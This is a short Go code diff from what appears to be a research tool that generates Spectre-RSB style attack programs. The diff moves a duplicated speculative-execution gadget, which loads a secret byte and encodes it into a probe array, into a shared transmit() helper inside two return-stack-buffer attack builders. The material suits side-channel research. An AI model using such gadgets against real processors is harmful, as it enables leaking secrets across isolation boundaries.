@@ -33,12 +33,7 @@ func buildRSBOverwrite(p Params) (*asm.Program, Layout, error) {
 	b.Call("victim")
 	// The gadget sits at the call's return site: the RSB predicts it, the
 	// architectural return address (overwritten with &after) skips it.
-	b.NopN(p.NopPad)
-	b.Add(rVA, rArr1, rArg)
-	b.Ldb(rS, rVA, 0)
-	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
-	b.Add(rVT, rArr2, rVT)
-	b.Ldb(rZ, rVT, 0)
+	transmit(b, p)
 	b.Label("after")
 	waitLoop(b, "wait", 600)
 	probeLoop(b, p, "probe")
@@ -82,12 +77,7 @@ func buildRSBFlush(p Params) (*asm.Program, Layout, error) {
 	b.Label("victim")
 	b.Call("manip") // pushes an RSB entry pointing at the gadget below
 	// gadget: architecturally never executed (manip discards the return).
-	b.NopN(p.NopPad)
-	b.Add(rVA, rArr1, rArg)
-	b.Ldb(rS, rVA, 0)
-	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
-	b.Add(rVT, rArr2, rVT)
-	b.Ldb(rZ, rVT, 0)
+	transmit(b, p)
 	b.Label("vf_cont")
 	b.Clflush(isa.SP, 0) // evict the victim's stack line (Fig. 4c)
 	b.Fence()
